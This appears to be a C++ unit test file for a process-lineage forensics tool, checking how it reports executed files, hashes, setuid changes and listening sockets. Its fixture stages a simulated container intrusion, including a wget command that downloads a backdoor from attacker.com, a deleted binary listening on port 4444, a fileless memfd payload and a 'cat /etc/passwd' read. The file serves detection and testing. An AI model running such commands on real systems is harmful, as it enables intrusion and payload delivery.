// What really ran (issue 14, schema version 8): the executed file behind the
// path, its flags and hash, privilege changes and listening sockets, as
// `lineage reconstruct` shows them offline from the journal, in text and
// JSON (golden files exec_files.txt and exec_files.json), through a whole
// load and a targeted one alike.
//
//   LINEAGE_UPDATE_GOLDEN=1 build/tests/unit_tests "[exec_files]"

#include <catch2/catch.hpp>

#include <algorithm>
#include <cctype>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "fixture_journal.h"

namespace test_exec_files {

using namespace fixture;
using nlohmann::json;

namespace {

const std::string kCg = pod_cgroup(kIncidentPodUid, kIncidentContainer);
constexpr uint64_t kDev = 66306;  // makedev(259, 2)
constexpr uint64_t kOverlayDev = 47;
constexpr uint64_t kAllCaps = 0x1ffffffffffULL;
const std::string kXHash = "3f2a9c1d5b7e8f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3e1";
const std::string kWgetHash = "0d7c3e2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a392817000";
const std::string kMemfdHash = "aa11bb22cc33dd44ee55ff6600778899aabbccddeeff00112233445566778899";

lineage::Credentials root_creds() {
    lineage::Credentials c;
    c.cap_permitted = c.cap_effective = kAllCaps;
    return c;
}

lineage::Credentials user_creds(uint32_t id) {
    lineage::Credentials c;
    c.uid = c.gid = c.euid = c.egid = id;
    return c;
}

// A file of the container's root (overlayfs, in the lower layer unless
// `flags` says otherwise) run by root.
lineage::ExecFile file(const std::string& path, uint64_t ino, uint32_t flags = 0, uint64_t dev = kOverlayDev) {
    lineage::ExecFile f;
    f.path = path;
    f.dev = dev;
    f.ino = ino;
    f.nlink = (flags & (lineage::kFileDeleted | lineage::kFileMemfd)) ? 0 : 1;
    f.size = 1000 + ino;
    f.mode = 0100755;
    f.mtime_ns = kWall0 - 86'400'000'000'000LL;
    f.flags = flags | (dev == kOverlayDev ? lineage::kFileOverlay | lineage::kFileUpperKnown : 0);
    f.before = f.after = root_creds();
    return f;
}

ExecOpts in_pod(std::optional<lineage::ExecFile> f, uint32_t nspid) {
    ExecOpts o;
    o.cgroup = kCg;
    o.nodename = kIncidentPodName;
    o.nspid = nspid;
    o.file = std::move(f);
    return o;
}

void hash(FixtureJournal& fx, const lineage::ExecFile& f, uint64_t t, const std::string& sha256,
          const std::string& problem = "") {
    lineage::FileHashRow row;
    row.time_ns = static_cast<int64_t>(t);
    row.key = lineage::file_key(f);
    row.path = f.path;
    row.sha256 = sha256;
    row.problem = problem;
    fx.file_hash(row);
}

// A pod's shell (bash, its file /usr/bin/bash: no flag on a merged /usr)
// runs, one after the other:
//   wget (18297), hashed;
//   /tmp/.x (18299), written into the container and deleted, hashed after a
//     rate-limited try, listening on 0.0.0.0:4444 and [::]:4445;
//   python3 then a memfd through /proc/self/fd/3 (18300);
//   busybox as /proc/self/exe (18301);
//   a #!/bin/sh script (18302);
//   a setuid-root id run by uid 1000 (18303);
//   ping with file capabilities, run by uid 1000 (18304);
//   a file too large to hash (18305), after a rate-limited try;
//   ls with no exec_files row (18306), as an older journal has it.
FixtureJournal exec_files_fixture() {
    FixtureJournal fx;
    Proc shim = fx.snapshot(18150, 1, at(940, 801'234'567), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                            {"/usr/bin/containerd-shim-runc-v2"}, "/system.slice/containerd.service");
    fx.pod(kIncidentPodUid, kIncidentPodName, kIncidentNamespace, "log-dir");

    Proc sh = FixtureJournal::proc(18290, at(1000, 123'456'789));
    fx.fork(shim, sh, at(1000, 123'456'789));
    fx.exec(sh, "/bin/bash", {"bash"}, at(1000, 130'000'000), in_pod(file("/usr/bin/bash", 11), 1));

    Proc wget = FixtureJournal::proc(18297, at(1010, 1'000));
    fx.fork(sh, wget, at(1010, 1'000));
    const auto wget_file = file("/usr/bin/wget", 12);
    fx.exec(wget, "/usr/bin/wget", {"wget", "-O", "/tmp/.x", "http://attacker.com/backdoor"}, at(1010, 2'000'000),
            in_pod(wget_file, 2));
    hash(fx, wget_file, at(1010, 9'000'000), kWgetHash);
    fx.exit(wget, at(1011));

    Proc x = FixtureJournal::proc(18299, at(1012, 1'000));
    fx.fork(sh, x, at(1012, 1'000));
    const auto x_file = file("/tmp/.x", 13, lineage::kFileDeleted | lineage::kFileUpper);
    fx.exec(x, "/tmp/.x", {"/tmp/.x"}, at(1012, 2'000'000), in_pod(x_file, 3));
    hash(fx, x_file, at(1012, 3'000'000), "", "rate_limited");
    hash(fx, x_file, at(1013, 0), kXHash);
    fx.listen(x, "0.0.0.0", 4444, at(1012, 50'000'000));
    fx.listen(x, "::", 4445, at(1012, 60'000'000), 6);
    fx.exit(x, at(1030));

    Proc py = FixtureJournal::proc(18300, at(1014, 1'000));
    fx.fork(sh, py, at(1014, 1'000));
    fx.exec(py, "/usr/bin/python3", {"python3", "-c", "..."}, at(1014, 2'000'000),
            in_pod(file("/usr/bin/python3.11", 14), 4));
    const auto memfd = file("memfd:payload (deleted)", 1234, lineage::kFileMemfd | lineage::kFileDeleted, 1);
    fx.exec(py, "/proc/self/fd/3", {"payload"}, at(1014, 90'000'000), in_pod(memfd, 4));
    hash(fx, memfd, at(1014, 95'000'000), kMemfdHash);
    fx.exit(py, at(1015));

    Proc bb = FixtureJournal::proc(18301, at(1016, 1'000));
    fx.fork(sh, bb, at(1016, 1'000));
    fx.exec(bb, "/proc/self/exe", {"cat", "/etc/passwd"}, at(1016, 2'000'000), in_pod(file("/bin/busybox", 15), 5));
    fx.exit(bb, at(1016, 500'000'000));

    Proc script = FixtureJournal::proc(18302, at(1017, 1'000));
    fx.fork(sh, script, at(1017, 1'000));
    auto script_file = file("/usr/bin/dash", 16, lineage::kFileScript);
    script_file.interpreter = "/bin/sh";
    fx.exec(script, "/tmp/run.sh", {"/tmp/run.sh", "start"}, at(1017, 2'000'000), in_pod(script_file, 6));
    fx.exit(script, at(1017, 500'000'000));

    Proc id = FixtureJournal::proc(18303, at(1018, 1'000));
    fx.fork(sh, id, at(1018, 1'000));
    auto id_file = file("/tmp/id", 17, lineage::kFileSecureExec | lineage::kFileUpper);
    id_file.mode = 0104755;
    id_file.before = user_creds(1000);
    id_file.after = user_creds(1000);
    id_file.after.euid = 0;
    id_file.after.cap_permitted = id_file.after.cap_effective = kAllCaps;
    auto id_opts = in_pod(id_file, 7);
    id_opts.uid = id_opts.gid = 1000;
    fx.exec(id, "/tmp/id", {"/tmp/id"}, at(1018, 2'000'000), id_opts);
    fx.exit(id, at(1018, 500'000'000));

    Proc ping = FixtureJournal::proc(18304, at(1019, 1'000));
    fx.fork(sh, ping, at(1019, 1'000));
    auto ping_file = file("/usr/bin/ping", 18, lineage::kFileSecureExec);
    ping_file.before = user_creds(1000);
    ping_file.after = user_creds(1000);
    ping_file.after.cap_permitted = ping_file.after.cap_effective = 0x2000;  // CAP_NET_RAW
    auto ping_opts = in_pod(ping_file, 8);
    ping_opts.uid = ping_opts.gid = ping_opts.euid = 1000;
    fx.exec(ping, "/bin/ping", {"ping", "-c1", "10.0.0.1"}, at(1019, 2'000'000), ping_opts);
    fx.exit(ping, at(1019, 500'000'000));

    Proc big = FixtureJournal::proc(18305, at(1020, 1'000));
    fx.fork(sh, big, at(1020, 1'000));
    const auto big_file = file("/opt/big", 19);
    fx.exec(big, "/opt/big", {"/opt/big"}, at(1020, 2'000'000), in_pod(big_file, 9));
    hash(fx, big_file, at(1020, 3'000'000), "", "rate_limited");
    hash(fx, big_file, at(1021, 0), "", "too_large");
    fx.exit(big, at(1022));

    Proc ls = FixtureJournal::proc(18306, at(1023, 1'000));
    fx.fork(sh, ls, at(1023, 1'000));
    fx.exec(ls, "/bin/ls", {"ls", "/"}, at(1023, 2'000'000), in_pod(std::nullopt, 10));
    fx.exit(ls, at(1023, 500'000'000));
    return fx;
}

struct Case {
    TempDir dir;
    Case() { exec_files_fixture().write(dir / "j.db"); }
    RunResult run(std::vector<std::string> extra) const {
        std::vector<std::string> a{"reconstruct", "--journal",    "j.db",    "--since", kIncidentSince,
                                   "--until",     kIncidentUntil, "--color", "never"};
        a.insert(a.end(), extra.begin(), extra.end());
        return run_lineage(a, dir.path());
    }
};

bool has(const std::string& out, const std::string& what) {
    return out.find(what) != std::string::npos;
}

// The line of the process with this PID.
std::string line_of(const std::string& out, uint32_t pid) {
    const std::string mark = "(PID " + std::to_string(pid);
    auto at = out.find(mark);
    if (at == std::string::npos) return "";
    auto start = out.rfind('\n', at);
    start = start == std::string::npos ? 0 : start + 1;
    return out.substr(start, out.find('\n', at) - start);
}

json exec_of(const json& doc, uint32_t pid, size_t index = 0) {
    std::vector<json> todo{doc.at("trees").begin(), doc.at("trees").end()};
    while (!todo.empty()) {
        json n = todo.back();
        todo.pop_back();
        if (n.at("pid") == pid) return n.at("execs").at(index);
        for (const auto& c : n.at("children")) todo.push_back(c);
    }
    FAIL("no process " << pid);
    return {};
}

}  // namespace

TEST_CASE("what really ran: the executed file's flags, hash and listens in the text tree",
          "[reconstruct][exec_files]") {
    Case c;
    RunResult text = c.run({"--pod", kIncidentPodName});
    REQUIRE(text.status == 0);
    CHECK(text.err == "");
    CHECK(golden_mismatch("exec_files.txt", text.out) == "");

    // A merged /usr is no news: bash's file is /usr/bin/bash.
    CHECK(line_of(text.out, 18290).find("[runs") == std::string::npos);
    // An exec with nothing to flag shows no hash in text (the JSON has it).
    CHECK(line_of(text.out, 18297).find("sha256") == std::string::npos);
    // The example: written after the container started, deleted, hashed
    // (the hash beats the earlier rate-limited try), and a listener below it.
    const std::string x = line_of(text.out, 18299);
    CHECK(has(x, "/tmp/.x  [written after container start] [deleted]  sha256 3f2a…e1  (PID 18299"));
    CHECK(has(text.out, "→ listen 0.0.0.0:4444  "));
    CHECK(has(text.out, "→ listen [::]:4445  "));
    // Fileless: the memfd's name, and no [deleted] or [runs] beside it.
    const std::string py = line_of(text.out, 18300);
    CHECK(has(py,
              "python3 -c ... → [/proc/self/fd/3] payload  [memfd: payload]  "
              "sha256 aa11…99"));
    // python3 to python3.11 is a link between system binary directories.
    CHECK_FALSE(has(py, "[runs"));
    CHECK_FALSE(has(py, "[deleted]"));
    CHECK(has(line_of(text.out, 18301), "[/proc/self/exe] cat /etc/passwd  [runs /bin/busybox]"));
    // A script: its interpreter, not [runs] of the interpreter's file.
    const std::string script = line_of(text.out, 18302);
    CHECK(has(script, "/tmp/run.sh start  [script, interpreter /bin/sh]"));
    CHECK_FALSE(has(script, "[runs"));
    // setuid root: the euid change alone (the capabilities come with it).
    const std::string id = line_of(text.out, 18303);
    CHECK(has(id, "[written after container start] [setuid: euid 1000 → 0]"));
    CHECK_FALSE(has(id, "capabilities"));
    // File capabilities: no uid change, the effective set grew.
    CHECK(has(line_of(text.out, 18304), "ping -c1 10.0.0.1  [capabilities: effective 0x0 → 0x2000]"));
    // Unflagged, so no hash problem either (the JSON gives it).
    CHECK(has(line_of(text.out, 18305), "/opt/big  (PID 18305"));
    // An exec without its file renders as before: nothing after the command.
    CHECK(has(line_of(text.out, 18306), "ls /  (PID 18306"));

    SECTION("--ascii") {
        RunResult r = c.run({"--pod", kIncidentPodName, "--ascii"});
        REQUIRE(r.status == 0);
        for (unsigned char ch : r.out) {
            INFO("--ascii output has a non-ASCII byte");
            REQUIRE(ch < 0x80);
        }
        CHECK(has(r.out, "-> listen 0.0.0.0:4444"));
        CHECK(has(r.out, "sha256 3f2a...e1"));
        CHECK(has(r.out, "[setuid: euid 1000 -> 0]"));
    }

    SECTION("a targeted load (--pid) shows the same as a whole one") {
        RunResult whole = c.run({});
        RunResult one = c.run({"--pid", "18299"});
        REQUIRE(one.status == 0);
        CHECK(has(one.out, "/tmp/.x  [written after container start] [deleted]  sha256 3f2a…e1  (PID 18299"));
        CHECK(has(one.out, "→ listen 0.0.0.0:4444"));
        // The same line, drawn deeper (the whole load's tree starts higher).
        auto tail = [](const std::string& line, const std::string& from) { return line.substr(line.find(from)); };
        CHECK(tail(line_of(whole.out, 18299), "/tmp/.x") == tail(line_of(text.out, 18299), "/tmp/.x"));
        CHECK(tail(line_of(whole.out, 18305), "/opt/big") == tail(line_of(text.out, 18305), "/opt/big"));
    }
}

TEST_CASE("what really ran: every field in JSON", "[reconstruct][exec_files]") {
    Case c;
    RunResult r = c.run({"--pod", kIncidentPodName, "--format", "json"});
    REQUIRE(r.status == 0);
    CHECK(golden_mismatch("exec_files.json", r.out) == "");
    const json doc = json::parse(r.out);

    const json x = exec_of(doc, 18299);
    const json& f = x.at("file");
    CHECK(f.at("path") == "/tmp/.x");
    CHECK(f.at("dev") == kOverlayDev);
    CHECK(f.at("inode") == 13);
    CHECK(f.at("links") == 0);
    CHECK(f.at("size") == 1013);
    CHECK(f.at("mode") == 0100755);
    CHECK(f.at("mtime") == "2026-04-21T09:00:00.000000000Z");
    CHECK(f.at("deleted") == true);
    CHECK(f.at("memfd") == false);
    CHECK(f.at("upper_layer") == true);
    CHECK(f.at("sha256") == kXHash);
    CHECK(f.at("sha256_problem") == nullptr);
    CHECK(x.at("script") == false);
    CHECK(x.at("interpreter") == nullptr);
    CHECK_FALSE(x.contains("privileges"));

    const json wget = exec_of(doc, 18297);
    CHECK(wget.at("file").at("upper_layer") == false);

    const json memfd = exec_of(doc, 18300, 1);
    CHECK(memfd.at("file").at("memfd") == true);
    CHECK(memfd.at("file").at("path") == "memfd:payload (deleted)");
    CHECK(memfd.at("file").at("upper_layer") == nullptr);  // the fixture's probe did not say
    CHECK(memfd.at("file").at("sha256") == kMemfdHash);

    const json script = exec_of(doc, 18302);
    CHECK(script.at("script") == true);
    CHECK(script.at("interpreter") == "/bin/sh");
    CHECK(script.at("file").at("path") == "/usr/bin/dash");

    const json id = exec_of(doc, 18303);
    CHECK(id.at("file").at("setuid") == true);
    CHECK(id.at("privileges").at("before").at("euid") == 1000);
    CHECK(id.at("privileges").at("after").at("euid") == 0);
    CHECK(id.at("privileges").at("after").at("cap_effective") == kAllCaps);

    const json big = exec_of(doc, 18305);
    CHECK(big.at("file").at("sha256") == nullptr);
    CHECK(big.at("file").at("sha256_problem") == "too_large");

    const json bb = exec_of(doc, 18301);
    CHECK(bb.at("file").at("sha256") == nullptr);  // no row names it
    CHECK(bb.at("file").at("sha256_problem") == nullptr);

    // An exec of an older journal: none of the new keys.
    const json ls = exec_of(doc, 18306);
    CHECK_FALSE(ls.contains("file"));
    CHECK_FALSE(ls.contains("script"));
    CHECK_FALSE(ls.contains("interpreter"));

    // Listens beside connects, only on the process that listened.
    std::vector<json> todo{doc.at("trees").begin(), doc.at("trees").end()};
    size_t with_listens = 0;
    while (!todo.empty()) {
        json n = todo.back();
        todo.pop_back();
        for (const auto& ch : n.at("children")) todo.push_back(ch);
        if (!n.contains("listens")) continue;
        ++with_listens;
        CHECK(n.at("pid") == 18299);
        REQUIRE(n.at("listens").size() == 2);
        CHECK(n.at("listens")[0].at("addr") == "0.0.0.0");
        CHECK(n.at("listens")[0].at("port") == 4444);
        CHECK(n.at("listens")[0].at("family") == "ipv4");
        CHECK(n.at("listens")[1].at("family") == "ipv6");
    }
    CHECK(with_listens == 1);
}

TEST_CASE("what really ran: journal bytes in the file's path are escaped, and kept raw in JSON",
          "[reconstruct][exec_files]") {
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc p = FixtureJournal::proc(5000, at(1001, 424'242'424));
    fx.fork(init, p, at(1001, 424'242'424));
    ExecOpts o;
    o.file = file("/tmp/\x1b[31mevil\xff", 99, lineage::kFileScript, kDev);
    o.file->interpreter = "/bin/\x1b]0;x\x07sh";
    fx.exec(p, "/tmp/a", {"a"}, at(1001, 425'000'000), o);
    ExecOpts o2;
    o2.file = file("/tmp/\x1b[31mevil\xff", 99, 0, kDev);
    fx.exec(p, "/tmp/b", {"b"}, at(1002, 0), o2);
    fx.listen(p, "1.2.3.4\x1b[2J", 80, at(1003));
    TempDir dir;
    fx.write(dir / "j.db");

    RunResult text = run_lineage(
        {"reconstruct", "--journal", "j.db", "--since", kIncidentSince, "--until", kIncidentUntil, "--pid", "5000"},
        dir.path());
    REQUIRE(text.status == 0);
    CHECK(text.out.find('\x1b') == std::string::npos);
    CHECK(text.out.find('\x07') == std::string::npos);
    CHECK(has(text.out, "[script, interpreter /bin/\\x1b]0;x\\x07sh]"));
    CHECK(has(text.out, "[runs /tmp/\\x1b[31mevil\\xff]"));
    CHECK(has(text.out, "listen 1.2.3.4\\x1b[2J:80"));

    RunResult j = run_lineage({"reconstruct", "--journal", "j.db", "--since", kIncidentSince, "--until", kIncidentUntil,
                               "--pid", "5000", "--format", "json"},
                              dir.path());
    REQUIRE(j.status == 0);
    const json doc = json::parse(j.out);  // valid UTF-8, or this throws
    const json e = exec_of(doc, 5000);
    CHECK(e.at("file").at("path") == "/tmp/\x1b[31mevil\xef\xbf\xbd");
    CHECK(e.at("raw_b64").at("file_path") == "L3RtcC8bWzMxbWV2aWz/");
    CHECK(e.at("raw_b64").contains("interpreter"));
}

TEST_CASE("reconstruct's JSON is byte for byte what nlohmann::json::dump(2) writes, hostile bytes included",
          "[reconstruct][exec_files][json]") {
    // The renderer writes the document's text itself, field by field (no
    // json value per node): parsing it and dumping it again must give the
    // same bytes, which also checks that every object's keys are in order.
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    Proc p = FixtureJournal::proc(5000, at(1001, 424'242'424));
    fx.fork(init, p, at(1001, 424'242'424));
    std::string every_control;
    for (int c = 1; c < 0x20; ++c) every_control += static_cast<char>(c);
    every_control += "\x7f\"quote\" back\\slash \xff\xfe \xc3\xa9t\xc3\xa9 \xe2\x80\xae";
    ExecOpts o;
    o.file = file("/tmp/" + every_control, 99, lineage::kFileScript, kDev);
    o.file->interpreter = "/bin/" + every_control;
    fx.exec(p, "/tmp/" + every_control, {"a", every_control, "", "\b\f"}, at(1001, 425'000'000), o);
    fx.connect(p, "10.0.0.1", 443, at(1002));
    fx.listen(p, "::", 8080, at(1003), 6);
    fx.exit(p, at(1004), 0, 9, true);
    TempDir dir;
    fx.write(dir / "j.db");
    Case c;
    for (const auto& [where, args] :
         std::vector<std::pair<std::string, std::vector<std::string>>>{{dir.path(), {"--pid", "5000"}},
                                                                       {dir.path(), {"--pid", "5000", "--new"}},
                                                                       {c.dir.path(), {}},
                                                                       {c.dir.path(), {"--new", "--ancestors"}}}) {
        std::vector<std::string> a{"reconstruct", "--journal",    "j.db",     "--since", kIncidentSince,
                                   "--until",     kIncidentUntil, "--format", "json"};
        a.insert(a.end(), args.begin(), args.end());
        RunResult j = run_lineage(a, where);
        INFO(where << " " << args.size() << "\n" << j.err);
        REQUIRE(j.status == 0);
        const json doc = json::parse(j.out);
        CHECK(j.out == doc.dump(2) + "\n");
        CHECK_FALSE(doc.at("trees").empty());
    }
}

TEST_CASE("reconstruct --binary matches the executed file's path as well as the path given",
          "[reconstruct][exec_files]") {
    Case c;
    // busybox ran as /proc/self/exe; its file is /bin/busybox.
    RunResult bb = c.run({"--binary", "busybox"});
    CHECK(bb.status == 0);
    CHECK(has(bb.out, "(PID 18301"));
    CHECK_FALSE(has(bb.out, "(PID 18297"));
    // A whole path too, and the script whose interpreter's file it is.
    RunResult dash = c.run({"--binary", "/usr/bin/dash"});
    CHECK(dash.status == 0);
    CHECK(has(dash.out, "(PID 18302"));
    // The path given still matches.
    RunResult fd = c.run({"--binary", "/proc/self/fd/*"});
    CHECK(fd.status == 0);
    CHECK(has(fd.out, "(PID 18300"));
    RunResult none = c.run({"--binary", "nosuchbinary"});
    CHECK(none.status == 1);
}

TEST_CASE("reconstruct --sha256 finds every process that ran a file with that hash, at any path",
          "[reconstruct][exec_files]") {
    FixtureJournal fx;
    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    const auto x = file("/tmp/.x", 13, 0, kDev);
    // The same file, run at two paths (a hard link), hashed once per path.
    auto linked = x;
    linked.path = "/var/tmp/y";
    // Another file at the first path later (another inode): not a match.
    const auto other = file("/tmp/.x", 14, 0, kDev);
    struct Run {
        uint32_t pid;
        lineage::ExecFile f;
    };
    const std::vector<Run> runs{{7001, x}, {7002, linked}, {7003, other}, {7004, x}};
    uint64_t t = at(1001);
    for (const auto& r : runs) {
        Proc p = FixtureJournal::proc(r.pid, t);
        fx.fork(init, p, t);
        // 7001 forks before its exec: that child (7011) runs init's image.
        if (r.pid == 7001) {
            Proc early = FixtureJournal::proc(7011, t + 500'000);
            fx.fork(p, early, t + 500'000);
            fx.exit(early, t + 600'000);
        }
        ExecOpts o;
        o.file = r.f;
        fx.exec(p, r.f.path, {r.f.path}, t + 1'000'000, o);
        // 7001 and 7003 fork children that never exec: they run the file
        // their forker ran, and so does a grandchild that never execs.
        if (r.pid == 7001 || r.pid == 7003) {
            Proc child = FixtureJournal::proc(r.pid + 4, t + 100'000'000);
            fx.fork(p, child, t + 100'000'000);
            Proc grandchild = FixtureJournal::proc(r.pid + 5, t + 200'000'000);
            fx.fork(child, grandchild, t + 200'000'000);
            fx.exit(grandchild, t + 300'000'000);
            fx.exit(child, t + 400'000'000);
        }
        fx.exit(p, t + 500'000'000);
        t += 10'000'000'000ULL;
    }
    hash(fx, x, at(1002), kXHash);
    hash(fx, linked, at(1012), kXHash);
    hash(fx, other, at(1022), kWgetHash);
    TempDir dir;
    fx.write(dir / "j.db");
    auto run = [&](std::vector<std::string> extra, const std::string& since = kIncidentSince) {
        std::vector<std::string> a{"reconstruct", "--journal",    "j.db",    "--since", since,
                                   "--until",     kIncidentUntil, "--color", "never"};
        a.insert(a.end(), extra.begin(), extra.end());
        return run_lineage(a, dir.path());
    };

    std::string upper = kXHash;
    for (auto& ch : upper) ch = static_cast<char>(std::toupper(static_cast<unsigned char>(ch)));
    for (const std::string& h : {kXHash, upper}) {
        INFO("--sha256 " << h);
        RunResult r = run({"--sha256", h});
        CHECK(r.status == 0);
        CHECK(has(r.out, "(PID 7001"));
        CHECK(has(r.out, "(PID 7002"));
        CHECK(has(r.out, "(PID 7004"));
        CHECK_FALSE(has(r.out, "(PID 7003"));
        // 7001's fork-only child and grandchild run /tmp/.x too; 7003's
        // run the other file, and 7011 was forked before 7001's exec.
        CHECK(has(r.out, "(PID 7005"));
        CHECK(has(r.out, "(PID 7006"));
        CHECK_FALSE(has(r.out, "(PID 7007"));
        CHECK_FALSE(has(r.out, "(PID 7008"));
        CHECK_FALSE(has(r.out, "(PID 7011"));
    }
    RunResult j = run({"--sha256", kXHash, "--format", "json"});
    const json doc = json::parse(j.out);
    CHECK(doc.at("matched") == 5);
    std::vector<json> nodes;
    for (const auto& tree : doc.at("trees")) {
        std::vector<json> todo{tree};
        while (!todo.empty()) {
            json n = todo.back();
            todo.pop_back();
            for (const auto& c : n.at("children")) todo.push_back(c);
            nodes.push_back(n);
        }
    }
    for (int pid : {7005, 7006}) {
        INFO(pid);
        auto it = std::find_if(nodes.begin(), nodes.end(), [&](const json& n) { return n.at("pid") == pid; });
        REQUIRE(it != nodes.end());
        CHECK(it->at("matched") == true);
        CHECK(it->at("fork_of") == ".x");
    }
    RunResult w = run({"--sha256", kWgetHash});
    CHECK(w.status == 0);
    CHECK(has(w.out, "(PID 7003"));
    CHECK(has(w.out, "(PID 7007"));
    CHECK(has(w.out, "(PID 7008"));
    CHECK_FALSE(has(w.out, "(PID 7001"));
    // With the window: only the processes in it.
    RunResult late = run({"--sha256", kXHash}, "2026-04-22T09:00:25Z");
    CHECK(late.status == 0);
    CHECK(has(late.out, "(PID 7004"));
    CHECK_FALSE(has(late.out, "(PID 7001"));
    RunResult none = run({"--sha256", std::string(64, '0')});
    CHECK(none.status == 1);

    for (const std::string& bad :
         {std::string("xyz"), kXHash.substr(1), kXHash + "0", "g" + kXHash.substr(1), std::string("")}) {
        INFO("--sha256 '" << bad << "'");
        RunResult r = run({"--sha256", bad});
        CHECK(r.status == 2);
        CHECK(r.out == "");
        CHECK(has(r.err, "lineage reconstruct: --sha256: '"));
        CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
    }
}

TEST_CASE("execs without their files (as an older journal has them): --sha256 finds nothing",
          "[reconstruct][exec_files]") {
    // The incident fixture's execs carry no file: its goldens are the
    // rendering of before, unchanged (test_reconstruct.cpp).
    TempDir dir;
    incident_fixture().write(dir / "j.db");
    RunResult r = run_lineage(
        {"reconstruct", "--journal", "j.db", "--since", kIncidentSince, "--until", kIncidentUntil, "--sha256", kXHash},
        dir.path());
    CHECK(r.status == 1);
    CHECK(r.err == "");
}

}  // namespace test_exec_files
